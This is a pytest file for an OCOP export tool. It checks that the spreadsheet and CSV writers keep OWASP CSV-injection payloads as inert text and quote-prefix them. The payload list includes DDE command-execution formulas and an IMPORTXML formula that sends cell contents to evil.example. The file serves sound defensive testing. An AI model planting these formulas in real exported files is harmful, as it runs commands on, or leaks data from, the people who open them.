"""The one spreadsheet/CSV writer: the OWASP CSV-injection payloads stay text, read back by openpyxl and csv."""

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from ocop_cli.main import error_report
from ocop_shared.exports import csv_text, table_xlsx

# OWASP "CSV Injection" payloads, and the one the issue measured
PAYLOADS = [
    '=HYPERLINK("http://evil.example/","Bấm")',
    "=cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    "  =1+1",
    "＝1+1",
]
HARMLESS = ["HTX Sang Hà", "Chè Shan tuyết", "a=b", "VN-19-063-000001", "https://ocop.example/S/ABCD"]


def _norm(value):
    """XML reads a carriage return back as a line feed."""
    return value.replace("\r", "\n") if isinstance(value, str) else value


def _cells(xlsx: bytes) -> dict[object, Any]:
    ws = load_workbook(io.BytesIO(xlsx)).active
    return {_norm(c.value): c for row in ws.iter_rows() for c in row if c.value is not None}


def test_xlsx_keeps_every_payload_as_text_with_its_value():
    rows = [{"name": p, "n": i} for i, p in enumerate(PAYLOADS + HARMLESS)]
    cells = _cells(table_xlsx("Báo cáo", [("name", "Tên"), ("n", "Số")], rows, sheet="s"))
    for payload in PAYLOADS:
        cell = cells[_norm(payload)]  # the value is unchanged: officials read the real name
        assert cell.data_type == "s", (payload, cell.data_type)
        assert cell.quotePrefix, payload  # editing the cell in Excel keeps it text
    for harmless in HARMLESS:
        assert cells[harmless].data_type == "s" and not cells[harmless].quotePrefix
    assert cells[3].data_type == "n"  # numbers stay numbers


def test_csv_prefixes_every_payload_and_nothing_else():
    read = list(csv.reader(io.StringIO(csv_text([[p] for p in PAYLOADS + HARMLESS]), newline="")))
    for payload, (cell,) in zip(PAYLOADS, read[: len(PAYLOADS)], strict=True):
        assert cell == "'" + payload
    assert [cell for (cell,) in read[len(PAYLOADS) :]] == HARMLESS


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_the_import_error_report_gives_back_hostile_cells_as_text(suffix):
    rows = [{"name": payload, "tax_code": "123"} for payload in PAYLOADS]
    errors = [{"row": i + 2, "errors": ["tax_code: sai định dạng"]} for i in range(len(rows))]
    report = error_report(suffix, {i + 2: row for i, row in enumerate(rows)}, errors)  # spreadsheet row numbers
    if suffix == ".xlsx":
        cells = _cells(report)
        assert all(cells[_norm(p)].data_type == "s" for p in PAYLOADS)
    else:
        read = list(csv.reader(io.StringIO(report.decode(), newline="")))
        assert [r[read[0].index("name")] for r in read[1:]] == ["'" + p for p in PAYLOADS]


def test_control_characters_are_shown_as_replacement_characters_not_a_crash() -> None:
    from io import BytesIO

    from openpyxl import load_workbook

    body = table_xlsx("T", [("a", "A")], [{"a": "product a\x00b\x1f"}, {"a": ["x\x0b", "y"]}], sheet="S")
    ws = load_workbook(BytesIO(body)).active
    assert ws["A3"].value == "product a\ufffdb\ufffd" and ws["A4"].value == "x\ufffd, y"
